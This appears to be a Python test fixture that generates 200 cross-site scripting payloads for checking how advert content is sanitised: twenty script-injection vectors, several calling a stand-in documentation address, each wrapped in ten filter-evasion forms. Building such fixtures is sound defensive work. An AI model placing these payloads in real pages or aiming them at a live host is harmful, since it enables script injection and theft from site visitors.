"""Two hundred texts that an advert might carry to take a screen over: twenty attacks, each dressed in ten ways."""

from __future__ import annotations

import html
from urllib.parse import quote

OUTSIDE = "http://203.0.113.9/stolen"
"""An address kept for documentation, where nobody answers."""
HIT = "window.stolen=1;alert(1)"
ATTACKS = (
    f"<script>{HIT}</script>",
    f"<script src={OUTSIDE}></script>",
    f"<img src=x onerror={HIT}>",
    f"<img src={OUTSIDE}>",
    f"<svg onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x></svg>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src={OUTSIDE}></iframe>",
    f"<a href='javascript:{HIT}'>apply</a>",
    f"<form action={OUTSIDE}><input name=uan autofocus onfocus={HIT}></form>",
    f"<details open ontoggle={HIT}>more</details>",
    f"<link rel=stylesheet href={OUTSIDE}>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<object data={OUTSIDE}></object>",
    f"<style>@import '{OUTSIDE}';*{{background:url({OUTSIDE})}}</style>",
    f"<video src=x onerror={HIT}></video>",
    f"[apply](javascript:{HIT})",
    f"![photo]({OUTSIDE})",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<body onload={HIT}><base href={OUTSIDE}>",
)
DRESSES = (
    "{}",
    '">{}',
    "'>{}",
    "</h3></article>{}",
    "--><!-- -->{}<!--",
    "]]>{}",
    "</script></style></textarea></title>{}",
    "&lt;b&gt;{html}",
    "{url}",
    "\u202e{}\u0000\u200b",
)
HOSTILE = tuple(dress.format(attack, html=html.escape(attack), url=quote(attack)) for dress in DRESSES for attack in ATTACKS)
